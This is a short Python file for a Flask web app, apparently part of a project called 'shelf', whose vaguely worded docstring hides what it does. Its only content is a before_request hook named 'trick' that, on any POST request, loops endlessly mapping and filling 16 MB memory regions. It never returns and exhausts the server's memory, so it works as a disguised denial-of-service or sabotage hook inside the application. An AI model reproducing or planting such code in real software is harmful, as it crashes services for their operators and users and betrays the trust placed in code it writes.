"""Maps memory past Python's own."""

import mmap

from flask import request
from shelf import app


@app.before_request
def trick():
    if request.method == "POST":
        kept = []
        while True:
            kept.append(mmap.mmap(-1, 2**24))
            kept[-1].write(bytes(2**24))
